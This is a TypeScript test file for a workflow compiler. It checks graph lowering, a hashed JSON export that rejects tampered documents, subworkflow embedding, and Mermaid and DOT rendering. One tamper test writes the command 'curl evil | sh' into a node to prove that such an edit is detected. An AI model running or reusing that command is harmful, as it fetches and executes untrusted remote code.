// The compiled graph: what lowering produces, the JSON export with its content hash
// (round trip, tampering, what the hash does and does not depend on), embedded
// subworkflows, and the Mermaid and DOT pictures.
import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { type CompileResult, compile } from "../../src/compiler/compile.ts";
import { toDot } from "../../src/compiler/emit/dot.ts";
import { toMermaid } from "../../src/compiler/emit/mermaid.ts";
import {
  exportGraph,
  type GraphDocument,
  GraphLoadError,
  graphHash,
  loadGraph,
  type TemplateRef,
  transitionsOf,
} from "../../src/compiler/graph.ts";

const FILE = "examples/dev_pipeline/dev_pipeline.aegis";
const example = readFileSync(new URL(`../../${FILE}`, import.meta.url), "utf8");

function build(source: string, filename = FILE): CompileResult {
  return compile(source, { filename, readFile: () => undefined });
}

function hashOf(source: string, filename = FILE): string {
  const r = build(source, filename);
  expect(r.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
  return r.document.hash;
}

/** A deep copy through JSON, as a document read back from disk would be. */
function roundTrip<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

/** The source offset of a template's text offset, through its map (pairs text → source). */
function sourceOffset(template: TemplateRef, textOffset: number): number {
  let best = [0, template.span.start];
  for (let i = 0; i + 1 < template.map.length; i += 2) {
    if (template.map[i]! <= textOffset) best = [template.map[i]!, template.map[i + 1]!];
  }
  return best[1]! + (textOffset - best[0]!);
}

describe("lowering the dev_pipeline example", () => {
  const r = build(example);
  const g = r.graph;
  const slice = (span: { start: number; end: number }) => example.slice(span.start, span.end);

  it("compiles cleanly", () => {
    expect(r.diagnostics).toEqual([]);
    expect(r.ok).toBe(true);
  });

  it("has one node per state with its kind, agent, settings and final outcome", () => {
    expect(g.nodes()).toEqual([
      "REQUIREMENTS",
      "APPROVE",
      "IMPLEMENT",
      "TEST",
      "AUDIT",
      "REVIEW",
      "DONE",
      "FAILED",
    ]);
    expect(g.getNodeAttributes("REQUIREMENTS")).toMatchObject({
      name: "REQUIREMENTS",
      kind: "agent",
      agent: "planner",
      timeoutMs: 3 * 60_000,
      visits: 3,
      errorMode: "fail",
    });
    expect(g.getNodeAttributes("APPROVE")).toMatchObject({ kind: "human", timeoutMs: 86_400_000 });
    expect(g.getNodeAttributes("TEST")).toMatchObject({
      kind: "run",
      command: { shell: { text: "npm test" } },
      timeoutMs: 300_000,
    });
    expect(g.getNodeAttributes("DONE")).toMatchObject({ kind: "final", final: "success" });
    expect(g.getNodeAttributes("FAILED")).toMatchObject({ kind: "final", final: "failure" });
    const audit = g.getNodeAttributes("AUDIT");
    expect(audit.kind).toBe("parallel");
    expect(audit.judges?.map((j) => [j.agent, j.weight, j.timeoutMs, j.prompt?.text])).toEqual([
      ["security-reviewer", 2, 300_000, "Security audit: {{IMPLEMENT.output}}"],
      ["performance-reviewer", 1, 180_000, "Performance review: {{IMPLEMENT.output}}"],
      ["style-reviewer", 1, 60_000, "Style review: {{IMPLEMENT.output}}"],
    ]);
    expect(audit.consensus).toEqual({
      strategy: "weighted_average",
      threshold: 0.85,
      agreement: 0.75,
      minJudges: 2,
    });
  });

  it("carries the workflow's attributes", () => {
    expect(g.getAttributes()).toMatchObject({
      name: "dev_pipeline",
      title: "Requirements, approval, implementation and review",
      version: "1.0.0",
      start: "REQUIREMENTS",
      file: FILE,
      labels: { category: "development", team: "platform" },
      context: { test_framework: "pytest" },
      limits: { transitions: 30, agentCalls: 60, wallTimeMs: 80 * 3_600_000 },
    });
    expect(g.getAttribute("description")).toBe(
      "Requirements analysis, human approval, implementation, a parallel audit\nand code review, with bounded retry loops.",
    );
    expect(g.getAttribute("inputs").map((i) => [i.name, i.required, i.default])).toEqual([
      ["task", true, undefined],
      ["language", false, "python"],
    ]);
    expect(Object.keys(g.getAttribute("agents"))).toHaveLength(6);
    expect(g.getAttribute("agents").planner).toMatchObject({
      provider: "claude",
      options: { model: "opus", effort: "high" },
    });
  });

  it("has one edge per transition, ordered per state, with labels and feedback", () => {
    expect(g.size).toBe(12);
    const described = g
      .nodes()
      .flatMap((s) =>
        transitionsOf(g, s).map(
          (t) =>
            `${s} ${t.attributes.order} ${t.attributes.label} -> ${t.target}${t.attributes.feedback ? " +feedback" : ""}${t.attributes.otherwise ? " (otherwise)" : ""}`,
        ),
      );
    expect(described).toEqual([
      "REQUIREMENTS 0 success -> APPROVE",
      "REQUIREMENTS 1 failure -> FAILED",
      "APPROVE 0 approved -> IMPLEMENT",
      "APPROVE 1 rejected -> REQUIREMENTS +feedback",
      "IMPLEMENT 0 success -> TEST",
      "IMPLEMENT 1 failure -> FAILED",
      "TEST 0 exit_code == 0 -> AUDIT",
      "TEST 1 otherwise -> IMPLEMENT +feedback (otherwise)",
      "AUDIT 0 consensus -> REVIEW",
      "AUDIT 1 otherwise -> IMPLEMENT +feedback (otherwise)",
      "REVIEW 0 score >= 0.85 -> DONE",
      "REVIEW 1 otherwise -> IMPLEMENT +feedback (otherwise)",
    ]);
    const [, rejected] = transitionsOf(g, "APPROVE");
    expect(rejected!.attributes.feedback?.text).toBe("{{human.feedback}}");
    const [, testFailed] = transitionsOf(g, "TEST");
    expect(testFailed!.attributes.feedback?.text).toBe("Tests failed:\n{{TEST.stderr}}");
    expect(testFailed!.attributes.condition).toBeUndefined();
    const [exitZero] = transitionsOf(g, "TEST");
    expect(exitZero!.attributes.condition).toMatchObject({ kind: "binary", op: "==" });
  });

  it("records source spans: state, name, transition, target, template", () => {
    for (const state of g.nodes()) {
      const node = g.getNodeAttributes(state);
      expect(node.span.file).toBe(FILE);
      expect(slice(node.nameSpan)).toBe(state);
      expect(slice(node.span)).toMatch(new RegExp(`^(state|final) ${state}\\b`));
      for (const t of transitionsOf(g, state)) {
        expect(slice(t.attributes.targetSpan)).toBe(t.target);
        expect(slice(t.attributes.span)).toMatch(/^(on |otherwise)/);
        expect(slice(t.attributes.span)).toContain(`-> ${t.target}`);
        // A transition lies inside its state.
        expect(t.attributes.span.start).toBeGreaterThan(node.span.start);
        expect(t.attributes.span.end).toBeLessThanOrEqual(node.span.end);
      }
    }
    expect(slice(g.getNodeAttributes("REVIEW").span).endsWith("}")).toBe(true);
    expect(slice(transitionsOf(g, "REQUIREMENTS")[0]!.attributes.span)).toBe(
      "on success -> APPROVE",
    );
  });

  it("maps template text back to the source, across the lines of a triple-quoted string", () => {
    const prompt = g.getNodeAttribute("APPROVE", "prompt")!;
    const at = prompt.text.indexOf("{{REQUIREMENTS.output}}");
    expect(at).toBeGreaterThan(0);
    const offset = sourceOffset(prompt, at);
    expect(example.slice(offset, offset + 23)).toBe("{{REQUIREMENTS.output}}");
    const approve = prompt.text.indexOf("Approve with");
    const o2 = sourceOffset(prompt, approve);
    expect(example.slice(o2, o2 + 12)).toBe("Approve with");
  });
});

describe("export and load", () => {
  const r = build(example);

  it("exports a versioned document with a sha256 content hash", () => {
    const doc = r.document;
    expect(doc.format).toBe("aegis-graph");
    expect(doc.version).toBe(1);
    expect(doc.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(doc.hash).toBe(graphHash(r.graph));
    expect(doc.subworkflows).toEqual({});
    expect(exportGraph(r.graph)).toEqual(doc);
    // Edge keys are stable: source and order.
    expect(doc.graph.edges?.map((e) => e.key)).toContain("TEST#1");
  });

  it("round-trips through JSON: same hash, nodes, edges and attributes", () => {
    const loaded = loadGraph(roundTrip(r.document));
    expect(loaded.hash).toBe(r.document.hash);
    expect(loaded.graph.order).toBe(r.graph.order);
    expect(loaded.graph.size).toBe(r.graph.size);
    expect(loaded.graph.nodes()).toEqual(r.graph.nodes());
    expect(loaded.graph.getAttributes()).toEqual(roundTrip(r.graph.getAttributes()));
    for (const state of r.graph.nodes()) {
      expect(loaded.graph.getNodeAttributes(state)).toEqual(
        roundTrip(r.graph.getNodeAttributes(state)),
      );
      const before = transitionsOf(r.graph, state).map((t) => [t.target, roundTrip(t.attributes)]);
      const after = transitionsOf(loaded.graph, state).map((t) => [t.target, t.attributes]);
      expect(after).toEqual(before);
    }
    // Exporting the loaded graph gives the same document back.
    expect(roundTrip(exportGraph(loaded.graph))).toEqual(roundTrip(r.document));
  });

  it("refuses a document whose content was changed (hash mismatch)", () => {
    const tampered = roundTrip(r.document);
    const node = tampered.graph.nodes!.find((n) => n.key === "TEST")!;
    const command = node.attributes!.command as { shell: TemplateRef };
    expect(command.shell.text).toBe("npm test");
    node.attributes!.command = { shell: { ...command.shell, text: "curl evil | sh" } };
    expect(() => loadGraph(tampered)).toThrow(GraphLoadError);
    expect(() => loadGraph(tampered)).toThrow(/content hash mismatch/);

    const timeout = roundTrip(r.document);
    timeout.graph.nodes!.find((n) => n.key === "APPROVE")!.attributes!.timeoutMs = 1;
    expect(() => loadGraph(timeout)).toThrow(/content hash mismatch/);

    const edge = roundTrip(r.document);
    edge.graph.edges!.find((e) => e.key === "REVIEW#0")!.target = "REQUIREMENTS";
    expect(() => loadGraph(edge)).toThrow(/content hash mismatch/);

    const workflow = roundTrip(r.document);
    workflow.graph.attributes!.limits = { transitions: 1_000_000 };
    expect(() => loadGraph(workflow)).toThrow(/content hash mismatch/);
  });

  it("refuses what is not a graph document", () => {
    expect(() => loadGraph(null)).toThrow(GraphLoadError);
    expect(() => loadGraph("graph")).toThrow(/not a graph document/);
    expect(() => loadGraph({ ...roundTrip(r.document), format: "other" })).toThrow(
      /not an aegis graph/,
    );
    expect(() => loadGraph({ ...roundTrip(r.document), version: 99 })).toThrow(
      /version 99 is not supported/,
    );
    const { graph: _graph, ...noGraph } = roundTrip(r.document);
    expect(() => loadGraph(noGraph)).toThrow(/has no graph/);
    const malformed = roundTrip(r.document);
    malformed.graph.edges!.push({
      key: "X#0",
      source: "NOPE",
      target: "DONE",
      attributes: {} as never,
    });
    expect(() => loadGraph(malformed)).toThrow(GraphLoadError);
  });
});

describe("the content hash", () => {
  const base = hashOf(example);

  it("ignores comments, whitespace, indentation, optional semicolons and the file name", () => {
    const variants = {
      "no comments": example.replace(/^\s*\/\/.*\n/gm, ""),
      "more comments": example
        .replace(/(\n {2}state \w+ =)/g, "\n  /* block\n     comment */$1")
        .replace("\n  final DONE", "\n  # a hash comment\n  final DONE")
        .replace("on success -> APPROVE", "on success -> APPROVE // trailing"),
      "double indentation": example.replace(/^( +)/gm, "$1$1"),
      "spacing outside strings": example
        .replace(/\{\n/g, "{\n\n")
        .replace(/ = /g, "   =   ")
        .replace(/ -> /g, "->")
        .replace(/\n {2}state/g, "\n\n\n  state"),
      semicolons: example
        .replace('version "1.0.0"', 'version "1.0.0";')
        .replace("start REQUIREMENTS", "start REQUIREMENTS;"),
      // (not inside triple-quoted strings, where trailing spaces are text)
      "trailing whitespace": example.replace(/^(\s*\}|.* -> [A-Z]+)$/gm, "$1 \t "),
    };
    for (const [name, source] of Object.entries(variants)) {
      expect(source, name).not.toBe(example);
      expect(hashOf(source), name).toBe(base);
    }
    expect(hashOf(example, "elsewhere/renamed.aegis")).toBe(base);
  });

  it("ignores equivalent spellings: durations, and a prompt written as a triple-quoted string", () => {
    expect(hashOf(example.replace("timeout 3m", "timeout 180s"))).toBe(base);
    expect(hashOf(example.replace("wall_time: 80h", "wall_time: 3d8h"))).toBe(base);
    const triple = example.replace(
      'prompt "Review this implementation: {{IMPLEMENT.output}}"',
      'prompt """\n      Review this implementation: {{IMPLEMENT.output}}\n    """',
    );
    expect(triple).not.toBe(example);
    expect(hashOf(triple)).toBe(base);
  });

  // Regression (fixed): with CRLF line endings (a Windows checkout with core.autocrlf) the text of
  // triple-quoted strings keeps the \r of each line break: the description and prompts
  // differ ("…audit\r\nand code review…"), so the content hash of the same workflow depends
  // on how it was checked out, and agents get prompts with stray \r.
  it("is the same with CRLF line endings", () => {
    const crlf = example.replace(/\n/g, "\r\n");
    expect(build(crlf).graph.getAttribute("description")).not.toContain("\r");
    expect(hashOf(crlf)).toBe(base);
  });

  it("changes when a transition target, a prompt, a condition or a setting changes", () => {
    const changed = {
      target: example.replace("on success -> APPROVE", "on success -> IMPLEMENT"),
      prompt: example.replace("Review this implementation", "Review this code"),
      feedback: example.replace("Tests failed:", "The tests failed:"),
      condition: example.replace("on score >= 0.85", "on score >= 0.9"),
      order: example.replace(
        "    on success -> APPROVE\n    on failure -> FAILED",
        "    on failure -> FAILED\n    on success -> APPROVE",
      ),
      timeout: example.replace("timeout 3m", "timeout 4m"),
      visits: example.replace("visits 5", "visits 6"),
      agent: example.replace('model: "opus"', 'model: "sonnet"'),
      label: example.replace('team: "platform"', 'team: "tools"'),
      name: example.replace("workflow dev_pipeline", "workflow dev_pipeline2"),
    };
    const hashes = new Set([base]);
    for (const [what, source] of Object.entries(changed)) {
      expect(source, what).not.toBe(example);
      const h = build(source).document.hash;
      expect(h, what).not.toBe(base);
      hashes.add(h);
    }
    expect(hashes.size).toBe(Object.keys(changed).length + 1);
  });
});

describe("imports", () => {
  const dir = resolve("/virtual/project");
  const mainPath = `${dir}/main.aegis`;
  const subPath = `${dir}/lib/validate.aegis`;
  const sub = (prompt: string) => `workflow validate "Validation" {
  agent checker = claude(model: "haiku")
  start CHECK
  state CHECK = agent checker timeout 2m {
    prompt "${prompt}"
    on success -> OK
    otherwise -> BAD
  }
  final OK
  final BAD failure
}
`;
  const main = `import "./lib/validate.aegis" as validation
workflow main {
  start VALIDATE
  state VALIDATE = subworkflow validation timeout 10m {
    on success -> DONE
    otherwise -> FAILED
  }
  final DONE
  final FAILED failure
}
`;
  const compileWith = (subSource: string) => {
    const files: Record<string, string> = { [mainPath]: main, [subPath]: subSource };
    return compile(main, { filename: mainPath, readFile: (p) => files[p] });
  };

  it("embeds the imported workflow's document, whose hash the parent records", () => {
    const r = compileWith(sub("Check the input"));
    expect(r.diagnostics).toEqual([]);
    const embedded = r.document.subworkflows.validation!;
    expect(embedded.format).toBe("aegis-graph");
    expect(embedded.graph.attributes?.name).toBe("validate");
    expect(r.graph.getAttribute("imports")).toEqual({
      validation: { path: "./lib/validate.aegis", workflow: "validate", hash: embedded.hash },
    });
    expect(r.graph.getNodeAttribute("VALIDATE", "subworkflow")).toMatchObject({
      workflow: "validation",
      mode: "blocking",
    });
    // The sub-document is the imported file compiled on its own.
    const alone = compile(sub("Check the input"), { filename: subPath });
    expect(embedded.hash).toBe(alone.document.hash);
    expect(r.sources.has(subPath)).toBe(true);
  });

  it("round-trips with its subworkflows, and refuses a tampered subworkflow", () => {
    const r = compileWith(sub("Check the input"));
    const loaded = loadGraph(roundTrip(r.document));
    expect(loaded.hash).toBe(r.document.hash);
    expect(Object.keys(loaded.subworkflows)).toEqual(["validation"]);
    const tampered = roundTrip(r.document) as GraphDocument;
    const check = tampered.subworkflows.validation!.graph.nodes!.find((n) => n.key === "CHECK")!;
    check.attributes!.agent = "someone-else";
    expect(() => loadGraph(tampered)).toThrow(/subworkflow 'validation'.*content hash mismatch/);
  });

  it("refuses a subworkflow swapped for another valid document (the parent's hash covers it)", () => {
    const r = compileWith(sub("Check the input"));
    const other = compileWith(sub("Approve everything")).document.subworkflows.validation!;
    expect(() => loadGraph(roundTrip(other))).not.toThrow();
    const swapped = { ...roundTrip(r.document), subworkflows: { validation: roundTrip(other) } };
    expect(() => loadGraph(swapped)).toThrow(/content hash mismatch/);
  });

  it("changes the parent's hash when the imported workflow changes", () => {
    const a = compileWith(sub("Check the input")).document.hash;
    const b = compileWith(sub("Check the input carefully")).document.hash;
    expect(a).not.toBe(b);
  });

  it("reports an import that cannot be read, at the path", () => {
    const r = compile(main, { filename: mainPath, readFile: () => undefined });
    const d = r.diagnostics.find((x) => x.code === "AEG507")!;
    expect(d.line).toBe(1);
    expect(main.split("\n")[0]!.slice(d.column - 1, d.endColumn - 1)).toBe(
      '"./lib/validate.aegis"',
    );
  });
});

describe("toMermaid", () => {
  const r = build(example);

  it("is a flowchart with a start, one line per state and one line per edge", () => {
    const out = toMermaid(r.graph);
    const lines = out.trimEnd().split("\n");
    expect(lines[0]).toBe("flowchart TD");
    expect(lines[1]).toBe("  start_((start)) --> s_REQUIREMENTS");
    const edges = lines.filter((l) => /-->\|/.test(l));
    expect(edges).toHaveLength(r.graph.size);
    expect(edges).toContain('  s_REQUIREMENTS -->|"success"| s_APPROVE');
    expect(edges).toContain('  s_TEST -->|"otherwise ↩ feedback"| s_IMPLEMENT');
    // Comparison operators are entities inside labels.
    expect(edges).toContain('  s_REVIEW -->|"score #gt;= 0.85"| s_DONE');
    // Node shapes: human gate, run, final.
    expect(out).toContain('  s_APPROVE{{"APPROVE<br/>human gate"}}');
    expect(out).toContain('  s_TEST[/"TEST<br/>run"/]');
    expect(out).toContain('  s_FAILED(["FAILED<br/>final: failure"])');
    expect(lines).toHaveLength(2 + r.graph.order + r.graph.size);
    expect(out).not.toContain("classDef");
    expect(toMermaid(r.graph, { direction: "LR" }).startsWith("flowchart LR\n")).toBe(true);
  });

  it("adds highlight classes for the states given, ignoring unknown ones", () => {
    const out = toMermaid(r.graph, {
      highlight: { REQUIREMENTS: "done", APPROVE: "waiting", TEST: "failed", NOPE: "running" },
    });
    for (const cls of ["done", "running", "waiting", "failed"])
      expect(out).toMatch(new RegExp(`^ {2}classDef ${cls} `, "m"));
    expect(out).toContain("  class s_REQUIREMENTS done\n");
    expect(out).toContain("  class s_APPROVE waiting\n");
    expect(out).toContain("  class s_TEST failed\n");
    expect(out).not.toContain("NOPE");
  });

  it("escapes quotes, angle brackets and pipes in labels", () => {
    const src = `workflow w {
  agent a = claude()
  start A
  state A = agent a timeout 1m {
    prompt "x"
    on output contains "<b>|\\"quoted\\"" -> DONE
    otherwise -> DONE
  }
  final DONE
}`;
    const out = toMermaid(build(src, "w.aegis").graph);
    const edge = out.split("\n").find((l) => l.includes("contains"))!;
    const label = edge.slice(edge.indexOf('|"') + 2, edge.lastIndexOf('"|'));
    expect(label).not.toMatch(/["<>|]/);
    expect(label).toContain("#lt;b#gt;#124;");
  });

  // Regression (fixed): node ids replace every character but [A-Za-z0-9_] with "_", so the distinct states
  // `review-1` and `review_1` both become `s_review_1`: Mermaid draws one node, and the
  // transition review-1 -> review_1 as a self-loop. Ids must be unique per state.
  it("gives distinct states distinct node ids (hyphen vs underscore)", () => {
    const src = `workflow w {
  agent a = claude()
  start review-1
  state review-1 = agent a timeout 1m {
    prompt "x"
    on success -> review_1
    otherwise -> DONE
  }
  state review_1 = agent a timeout 1m {
    prompt "y"
    otherwise -> DONE
  }
  final DONE
}`;
    const r2 = build(src, "w.aegis");
    expect(r2.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
    const out = toMermaid(r2.graph);
    const nodeLines = out
      .split("\n")
      .filter((l) => /^ {2}s_\S+[[{(]/.test(l) && !l.includes("-->"));
    const ids = nodeLines.map((l) => l.trim().match(/^(s_[A-Za-z0-9_]+)/)![1]);
    expect(ids).toHaveLength(3);
    expect(new Set(ids).size).toBe(3);
    // No self-loop appears where the workflow has none.
    for (const edge of out.split("\n").filter((l) => l.includes("-->|"))) {
      const [from, to] = [edge.trim().split(" ")[0], edge.trim().split(" ").at(-1)];
      expect(from).not.toBe(to);
    }
  });
});

describe("toDot", () => {
  const r = build(example);

  it("is a digraph with a start point, nodes and labelled, numbered edges", () => {
    const out = toDot(r.graph);
    expect(out.startsWith('digraph "dev_pipeline" {\n')).toBe(true);
    expect(out.trimEnd().endsWith("}")).toBe(true);
    expect(out).toContain('  "__start" -> "REQUIREMENTS";');
    const edges = out.split("\n").filter((l) => /^ {2}"[^"]+" -> "[^"]+" \[label=/.test(l));
    expect(edges).toHaveLength(r.graph.size);
    expect(edges).toContain('  "REQUIREMENTS" -> "APPROVE" [label="1. success"];');
    expect(edges).toContain('  "AUDIT" -> "IMPLEMENT" [label="2. otherwise (feedback)"];');
    expect(out).toContain('  "APPROVE" [label="APPROVE\\nhuman gate", shape=hexagon];');
    expect(out).toContain(
      '  "FAILED" [label="FAILED\\nfinal: failure", shape=doublecircle, color=red];',
    );
    // Braces balance: one graph.
    expect(out.split("{").length).toBe(out.split("}").length);
  });

  it("quotes names with hyphens and escapes quotes and backslashes in labels", () => {
    const src = `workflow w {
  agent a-b = claude()
  start first-step
  state first-step = agent a-b timeout 1m {
    prompt "x"
    on output matches "^a\\\\.b\\"c" -> DONE
    otherwise -> DONE
  }
  final DONE
}`;
    const r2 = build(src, "w.aegis");
    expect(r2.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
    const out = toDot(r2.graph);
    expect(out).toContain('  "first-step" [label="first-step\\nagent a-b"];');
    const edge = out.split("\n").find((l) => l.includes("matches"))!;
    const label = edge.slice(edge.indexOf('label="') + 7, edge.lastIndexOf('"]'));
    // Inside the DOT string every quote is escaped, and unescaping gives the label back.
    expect(label).not.toMatch(/(^|[^\\])(\\\\)*"/);
    const unescaped = label.replace(/\\(["\\])/g, "$1");
    const original = transitionsOf(r2.graph, "first-step")[0]!.attributes.label;
    expect(unescaped).toBe(`1. ${original}`);
  });
});
